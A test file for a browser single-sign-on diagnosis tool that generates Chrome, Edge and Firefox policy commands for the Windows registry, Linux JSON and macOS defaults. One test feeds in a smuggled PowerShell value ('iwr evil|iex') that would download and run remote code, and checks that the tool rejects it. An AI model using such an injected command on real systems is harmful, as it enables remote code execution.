import { describe, expect, it } from 'vitest';
import { allowlistPatternFor, chromiumPolicy, firefoxPref } from '../../../src/core/diagnosis/policies';
import { diagnoseExchange } from '../../../src/core/diagnosis/findings';
import { mainExchange, recordingOf, syntheticExchange } from '../../../tools/fixtures/recordings';

describe('policy settings, ready to copy', () => {
  it('adds to an allowlist an organisation may already fill — never overwrites it — on Windows, Linux and macOS', () => {
    const settings = chromiumPolicy('AuthServerAllowlist', '*.corp.example');
    expect(settings.map((setting) => setting.platform)).toEqual(['windows', 'windows', 'linux', 'macos']);
    expect(settings[0]?.how).toContain('reg query "HKLM\\SOFTWARE\\Policies\\Google\\Chrome" /v AuthServerAllowlist');
    expect(settings[0]?.value).toMatch(
      /Get-ItemProperty .*AuthServerAllowlist.*@\(\$v -split ','\) \+ '\*\.corp\.example'.*Select-Object -Unique.*Set-ItemProperty/,
    );
    expect(settings[0]?.value).not.toMatch(/reg add .* \/f/);
    expect(settings[1]?.value).toContain('Policies\\Microsoft\\Edge');
    expect(settings[2]?.value).toBe(
      `jq '.AuthServerAllowlist = ([(.AuthServerAllowlist // "" | split(",")[]), "*.corp.example"] | map(select(length > 0)) | unique | join(","))' FILE.json`,
    );
    expect(settings[2]?.how).toContain('/etc/chromium/policies/managed/');
    expect(settings[3]?.value).toBe(
      'v=$(defaults read com.google.Chrome AuthServerAllowlist 2>/dev/null); defaults write com.google.Chrome AuthServerAllowlist -string "${v:+$v,}*.corp.example"',
    );
  });

  it('writes a single-valued policy as it is', () => {
    expect(chromiumPolicy('EnableAuthNegotiatePort', true)[0]?.value).toBe(
      'reg add "HKLM\\SOFTWARE\\Policies\\Google\\Chrome" /v EnableAuthNegotiatePort /t REG_DWORD /d "1" /f',
    );
  });

  it('writes booleans and integers as DWORDs and typed defaults', () => {
    expect(chromiumPolicy('DisableAuthNegotiateCnameLookup', true)[0]?.value).toContain('/t REG_DWORD /d "1"');
    expect(chromiumPolicy('AmbientAuthenticationInPrivateModesEnabled', 3)[3]?.value).toContain('-integer 3');
  });

  it('gives Firefox URI lists as an addition and as the Authentication policy, other prefs as they are', () => {
    const [aboutConfig, policies] = firefoxPref('network.negotiate-auth.trusted-uris', '.corp.example');
    expect(aboutConfig?.value).toBe('network.negotiate-auth.trusted-uris = <current value>,.corp.example');
    expect(JSON.parse(policies?.value ?? '')).toEqual({ policies: { Authentication: { SPNEGO: ['.corp.example'] } } });
    const [userJs] = firefoxPref('network.auth.private-browsing-sso', true);
    expect(userJs?.value).toBe('user_pref("network.auth.private-browsing-sso", true);');
  });

  it('builds the allowlist pattern from the parent domain', () => {
    expect(allowlistPatternFor('intranet.corp.example')).toBe('*.corp.example');
    expect(allowlistPatternFor('intranet')).toBe('intranet');
  });
});

describe('the 2026 policies in the advice', () => {
  const challenged = (url: string, initiator: string | null = null) => {
    const exchange = syntheticExchange(url, [{ status: 401, headers: [{ name: 'WWW-Authenticate', value: 'Negotiate' }] }]);
    return { ...exchange, initiator };
  };
  const settingsOf = (findings: ReturnType<typeof diagnoseExchange>) =>
    findings.flatMap((finding) => finding.fixes.flatMap((fix) => fix.settings ?? [])).map((setting) => `${setting.how} ${setting.value}`);

  it('URL-list policies add a numbered entry on Windows and an array entry elsewhere', () => {
    const settings = chromiumPolicy('LocalNetworkAccessAllowedForUrls', 'https://portal.example.com');
    expect(settings[0]?.value).toContain(`HKLM:\\SOFTWARE\\Policies\\Google\\Chrome\\LocalNetworkAccessAllowedForUrls`);
    expect(settings[0]?.value).toContain(`Set-ItemProperty -Path $k -Name $n -Value 'https://portal.example.com'`);
    expect(settings[2]?.value).toBe('{"LocalNetworkAccessAllowedForUrls":["https://portal.example.com"]}');
    expect(settings[3]?.value).toBe(
      'defaults write com.google.Chrome LocalNetworkAccessAllowedForUrls -array-add "https://portal.example.com"',
    );
  });

  it('no token sent: AuthSchemes and AllHttpAuthSchemesAllowedForOrigins; Local Network Access when a page elsewhere loaded it', () => {
    const plain = settingsOf(diagnoseExchange(challenged('http://intranet.example/')));
    expect(plain.join('\n')).toContain('"AuthSchemes":"basic,digest,ntlm,negotiate"');
    expect(plain.join('\n')).toContain('"AllHttpAuthSchemesAllowedForOrigins":["http://intranet.example"]');
    expect(plain.join('\n')).not.toContain('LocalNetworkAccessAllowedForUrls');
    const embedded = settingsOf(diagnoseExchange(challenged('http://intranet.example/', 'https://portal.example.com')));
    expect(embedded.join('\n')).toContain('"LocalNetworkAccessAllowedForUrls":["https://portal.example.com"]');
    const hostile = settingsOf(diagnoseExchange(challenged('http://intranet.example/', "https://x'; iwr evil|iex #.example")));
    expect(hostile.join('\n')).not.toContain('LocalNetworkAccessAllowedForUrls');
  });

  it('Firefox’s prompt names network.auth.force-generic-ntlm; delegation names AuthNegotiateDelegateByKdcPolicy (macOS, Linux)', () => {
    // The recorded prompt (Chromium asks for NTLM credentials on Linux), as Firefox would have shown it.
    const prompted = mainExchange(recordingOf('chromium', 'ntlm-only'));
    expect(settingsOf(diagnoseExchange(prompted)).join('\n')).not.toContain('force-generic-ntlm');
    expect(settingsOf(diagnoseExchange({ ...prompted, browser: 'firefox' })).join('\n')).toContain(
      'user_pref("network.auth.force-generic-ntlm", false);',
    );
    const delegation = chromiumPolicy('AuthNegotiateDelegateByKdcPolicy', true);
    expect(delegation.map((setting) => setting.value)).toContain('{"AuthNegotiateDelegateByKdcPolicy":true}');
  });
});
